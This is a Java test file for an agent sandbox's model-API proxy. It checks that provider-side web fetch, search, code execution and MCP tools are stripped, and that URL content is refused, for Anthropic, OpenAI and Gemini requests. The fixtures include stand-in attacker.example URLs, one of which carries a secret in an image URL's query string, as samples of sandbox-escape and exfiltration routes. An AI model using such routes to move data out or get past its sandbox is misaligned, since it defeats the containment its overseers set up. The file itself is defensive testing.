package dev.agentsandbox.proxy;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A model API that fetches a URL, searches the web or connects to an MCP server for the agent is a
 * way out of a sandbox without a network. Through the proxy's socket, on the plain Anthropic, OpenAI
 * and Gemini upstreams (the clouds share the code): such tools never reach the upstream, the agent's
 * own tools do, and content the provider would fetch is refused before anything is sent.
 */
class ServerSideTest {
    @TempDir
    Path tmp;
    final ModelProxyTest proxy = new ModelProxyTest();

    @BeforeEach
    void start() throws Exception {
        proxy.tmp = tmp;
        proxy.start();
        proxy.proxy(null, null, null);
    }

    @AfterEach
    void stop() {
        proxy.stop();
    }

    private String lastBody() {
        return proxy.upstream.received.get(proxy.upstream.received.size() - 1).body();
    }

    @Test
    void anthropicsServerToolsAndTheMcpConnectorNeverReachTheUpstream() throws Exception {
        String body = "{\"model\":\"claude-x\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],"
                + "\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://attacker.example/mcp\",\"name\":\"x\"}],\"container\":\"c_1\","
                + "\"tools\":[{\"name\":\"Write\",\"input_schema\":{\"type\":\"object\"}},{\"type\":\"custom\",\"name\":\"Edit\",\"input_schema\":{}},"
                + "{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"},{\"type\":\"web_search_20250305\",\"name\":\"web_search\"},"
                + "{\"type\":\"code_execution_20250825\",\"name\":\"code_execution\"},{\"type\":\"Web_Fetch_20250910\",\"name\":\"f2\"},"
                + "{\"type\":\"bash_20250124\",\"name\":\"bash\"},{\"type\":\"text_editor_20250728\",\"name\":\"str_replace_based_edit_tool\"}]}";
        assertThat(proxy.call("POST", "/anthropic/v1/messages", body)).startsWith("HTTP/1.1 200");
        assertThat(lastBody()).doesNotContain("attacker.example").doesNotContain("mcp_servers").doesNotContain("container")
                .doesNotContain("web_fetch").doesNotContain("web_search").doesNotContain("code_execution").doesNotContain("f2")
                .contains("\"Write\"").contains("\"Edit\"").contains("bash_20250124").contains("text_editor_20250728");
        // an image or a document by URL would be fetched by Anthropic: refused, nothing sent
        int before = proxy.upstream.received.size();
        for (String content : new String[] {
            "[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":\"https://attacker.example/i.png?d=SECRET\"}}]",
            "[{\"type\":\"tool_result\",\"tool_use_id\":\"t\",\"content\":[{\"type\":\"document\",\"source\":{\"type\":\"url\",\"url\":\"https://a.example/d\"}}]}]",
        }) {
            assertThat(proxy.call("POST", "/anthropic/v1/messages", "{\"model\":\"claude-x\",\"messages\":[{\"role\":\"user\",\"content\":" + content + "}]}"))
                    .as(content).startsWith("HTTP/1.1 403").contains("server-side");
        }
        assertThat(proxy.upstream.received).hasSize(before);
        // inline content passes
        assertThat(proxy.call("POST", "/anthropic/v1/messages", "{\"model\":\"claude-x\",\"messages\":[{\"role\":\"user\",\"content\":"
                + "[{\"type\":\"image\",\"source\":{\"type\":\"base64\",\"media_type\":\"image/png\",\"data\":\"AA==\"}}]}]}")).startsWith("HTTP/1.1 200");
    }

    @Test
    void openAisHostedToolsNeverReachTheUpstreamAndItsUrlsAreRefused() throws Exception {
        String body = "{\"model\":\"gpt-x\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],\"tools\":[{\"type\":\"function\",\"function\":{\"name\":\"f\"}},"
                + "{\"type\":\"mcp\",\"server_url\":\"https://attacker.example/mcp\"},{\"type\":\"web_search_preview\"},{\"type\":\"Function\",\"name\":\"g\"}]}";
        assertThat(proxy.call("POST", "/openai/v1/chat/completions", body)).startsWith("HTTP/1.1 200");
        assertThat(lastBody()).doesNotContain("attacker.example").doesNotContain("web_search").doesNotContain("\"g\"").contains("\"f\"");
        assertThat(proxy.call("POST", "/openai/v1/chat/completions", "{\"model\":\"gpt-x\",\"messages\":[{\"role\":\"user\",\"content\":"
                + "[{\"type\":\"image_url\",\"image_url\":{\"url\":\"https://attacker.example/x.png\"}}]}]}")).startsWith("HTTP/1.1 403")
                .contains("server-side");
    }

    @Test
    void geminisServerToolsAndStoredContentAreRefusedInEitherSpelling() throws Exception {
        String path = "/gemini/v1beta/models/gemini-2.5-pro:generateContent";
        for (String body : new String[] {
            "{\"contents\":[],\"tools\":[{\"googleSearch\":{}}]}",
            "{\"contents\":[],\"tools\":[{\"url_context\":{}}]}",
            "{\"contents\":[],\"tools\":[{\"functionDeclarations\":[]},{\"code_execution\":{}}]}",
            "{\"contents\":[{\"parts\":[{\"file_data\":{\"file_uri\":\"https://attacker.example/x\"}}]}]}",
            "{\"contents\":[],\"cached_content\":\"cachedContents/1\"}",
        }) {
            assertThat(proxy.call("POST", path, body)).as(body).startsWith("HTTP/1.1 403").contains("server-side");
        }
        assertThat(proxy.upstream.received).isEmpty();
        assertThat(proxy.call("POST", path, "{\"contents\":[],\"tools\":[{\"function_declarations\":[{\"name\":\"write_file\"}]}]}"))
                .startsWith("HTTP/1.1 200");
    }
}
